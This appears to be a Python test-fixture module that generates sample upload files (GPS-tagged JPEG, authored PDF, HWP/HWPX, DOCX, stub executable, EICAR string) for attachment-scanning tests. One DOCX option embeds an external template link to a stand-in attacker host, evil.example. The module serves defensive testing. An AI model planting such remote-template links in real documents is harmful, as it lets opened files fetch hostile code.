"""Real files the attachment tests upload, made here: a JPEG with GPS, a PDF with an author, an
HWPX, DOCX files with and without macros, a Windows executable, EICAR."""

from __future__ import annotations

import io
import struct
import zipfile

import pikepdf
from PIL import Image

# The EICAR test file (eicar.org): every virus scanner reports it, and it harms nothing.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# A ClamAV signature database the tests write (signatures cannot be downloaded here): the EICAR
# file's MD5 and size, in the .hdb format (clamav's "MD5:size:name").
EICAR_HDB = "44d88612fea8a8f36de82e1278abb02f:68:Eicar-Test-Signature\n"

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg_with_gps(width: int = 40, height: int = 20) -> bytes:
    """A JPEG taken "sideways" (orientation 6: shown rotated 90°) with a camera owner and GPS."""
    image = Image.new("RGB", (width, height), (200, 30, 30))
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x013B] = "홍길동"  # Artist
    exif[0x010F] = "Camera maker"
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (37.0, 33.0, 59.0), 3: "E", 4: (126.0, 58.0, 40.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png(width: int = 30, height: int = 30) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def pdf_with_author(text: str = "Procurement notice 2026", padding: int = 0) -> bytes:
    """A one-page PDF showing `text`, with an author in its info and XMP, and an annotation whose
    author is a person; `padding` bytes of incompressible data make it as large as a test needs."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    content = pdf.make_stream(f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 612, 792],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
        Contents=content,
    )
    pdf.pages.append(pikepdf.Page(page))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Text,
        Rect=[10, 10, 30, 30],
        T=pikepdf.String("Kim Author"),
        Contents=pikepdf.String("a note"),
    )
    pdf.pages[0].obj["/Annots"] = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))
    pdf.docinfo["/Author"] = "Kim Author"
    pdf.docinfo["/Creator"] = "Kim's Word"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["Kim Author"]
    if padding:
        pdf.Root["/Padding"] = pdf.make_stream(_noise(padding))
    out = io.BytesIO()
    # Random padding does not compress: deflating it would only cost time.
    pdf.save(out, compress_streams=not padding)
    return out.getvalue()


def _noise(size: int) -> bytes:
    # Random-looking but cheap: a repeated 1 MiB block of os.urandom would compress; this will not.
    import os

    return os.urandom(size)


def hwpx(text: str = "한글 문서 본문", creator: str = "홍길동") -> bytes:
    """An HWPX package: `mimetype` first and stored, the OPF manifest with a creator, one section."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/hwp+zip", compress_type=zipfile.ZIP_STORED)
        z.writestr("version.xml", '<?xml version="1.0" encoding="UTF-8"?><hv:HCFVersion xmlns:hv="x"/>')
        z.writestr(
            "META-INF/container.xml",
            '<?xml version="1.0" encoding="UTF-8"?><ocf:container xmlns:ocf="urn:oasis:names:tc:'
            'opendocument:xmlns:container"><ocf:rootfiles><ocf:rootfile full-path="Contents/content.hpf" '
            'media-type="application/hwpml-package+xml"/></ocf:rootfiles></ocf:container>',
        )
        z.writestr(
            "Contents/content.hpf",
            '<?xml version="1.0" encoding="UTF-8"?><opf:package xmlns:opf="http://www.idpf.org/2007/opf/">'
            f'<opf:metadata><opf:title>공고</opf:title><opf:meta name="creator" content="text">{creator}'
            f'</opf:meta><opf:meta name="lastsaveby" content="text">{creator}</opf:meta></opf:metadata>'
            "</opf:package>",
        )
        z.writestr(
            "Contents/section0.xml",
            '<?xml version="1.0" encoding="UTF-8"?><hs:sec xmlns:hs="s" xmlns:hp="p"><hp:p><hp:run>'
            f"<hp:t>{text}</hp:t></hp:run></hp:p></hs:sec>",
        )
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>{extra}<Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    '{main}"/></Types>'
)
DOCX_MAIN = "wordprocessingml.document.main+xml"
DOCM_MAIN = "../ms-word.document.macroEnabled.main+xml"


def docx(text: str = "본문", creator: str = "홍길동", macro: bool = False, external: bool = False) -> bytes:
    """A minimal DOCX: its author in docProps, a tracked insertion by a named person; with
    `macro` a vbaProject.bin, with `external` a template fetched from elsewhere."""
    out = io.BytesIO()
    rels = (
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        if external
        else ""
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES.format(extra="", main=DOCX_MAIN))
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        z.writestr(
            "word/_rels/document.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rels}</Relationships>',
        )
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
            f'{text}</w:t></w:r><w:ins w:id="1" w:author="{creator}" w:date="2026-01-01T00:00:00Z"><w:r>'
            "<w:t>추가</w:t></w:r></w:ins></w:p></w:body></w:document>",
        )
        z.writestr(
            "docProps/core.xml",
            '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats'
            '.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:title>공고</dc:title><dc:creator>{creator}</dc:creator><cp:lastModifiedBy>{creator}"
            "</cp:lastModifiedBy></cp:coreProperties>",
        )
        z.writestr(
            "docProps/app.xml",
            '<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
            'officeDocument/2006/extended-properties"><Company>주식회사 가나다</Company>'
            "<Application>Microsoft Office Word</Application></Properties>",
        )
        if macro:
            z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return out.getvalue()


def exe() -> bytes:
    """The start of a Windows executable (an MZ header pointing at a PE header)."""
    header = bytearray(b"MZ" + bytes(58) + (64).to_bytes(4, "little"))
    return bytes(header) + b"PE\0\0" + bytes(200)


def hwp(author: str = "홍길동", scripts: bool = False) -> bytes:
    """An HWP 5 document as far as Tong reads one: an OLE compound file with a `FileHeader`
    stream, the summary information naming its author, and with `scripts` a `Scripts` storage."""
    summary = b"Author: " + author.encode("utf-16-le")
    entries: list[tuple[str, bytes | None]] = [
        ("FileHeader", b"HWP Document File" + bytes(15) + b"\x00\x00\x05\x05"),
        (
            "\x05HwpSummaryInformation",
            b"\xfe\xff\x00\x00" + bytes(24) + bytes(16) + b"\x30\x00\x00\x00" + summary,
        ),
    ]
    if scripts:
        entries.append(("Scripts", None))
    return compound_file(entries)


def compound_file(entries: list[tuple[str, bytes | None]]) -> bytes:
    """A minimal OLE compound file (MS-CFB version 3, 512-byte sectors): top-level streams (None:
    an empty storage), each padded to 4096 bytes so that none lives in the mini stream."""
    sector = 512
    end, free, fat_mark = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    streams = [
        (name, (data + bytes(4096))[: max(4096, len(data))]) for name, data in entries if data is not None
    ]
    directory_count = 1 + len(entries)
    directory_sectors = -(-directory_count * 128 // sector)
    stream_sectors = [len(data) // sector for _, data in streams]
    total = directory_sectors + sum(stream_sectors)
    fat_sectors = 1
    while fat_sectors * 128 < total + fat_sectors:
        fat_sectors += 1
    fat = [fat_mark] * fat_sectors
    first_directory = len(fat)
    fat += [*range(first_directory + 1, first_directory + directory_sectors), end]
    starts = []
    for count in stream_sectors:
        start = len(fat)
        starts.append(start)
        fat += [*range(start + 1, start + count), end]
    fat += [free] * (fat_sectors * 128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", free, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    rows = [entry("Root Entry", 5, 1 if entries else free, free, end, 0)]
    stream_index = 0
    for index, (name, data) in enumerate(entries, 1):
        right = index + 1 if index < len(entries) else free
        if data is None:
            rows.append(entry(name, 1, free, right, 0, 0))
        else:
            padded = streams[stream_index][1]
            rows.append(entry(name, 2, free, right, starts[stream_index], len(padded)))
            stream_index += 1
    directory = b"".join(rows).ljust(directory_sectors * sector, b"\0")
    # Unused directory slots must read as empty entries (no name, type 0, no siblings).
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, fat_sectors, first_directory, 0, 4096, end, 0, end, 0)
    )
    difat = list(range(fat_sectors)) + [free] * (109 - fat_sectors)
    header += struct.pack("<109I", *difat)
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(data for _, data in streams)
    return header + body
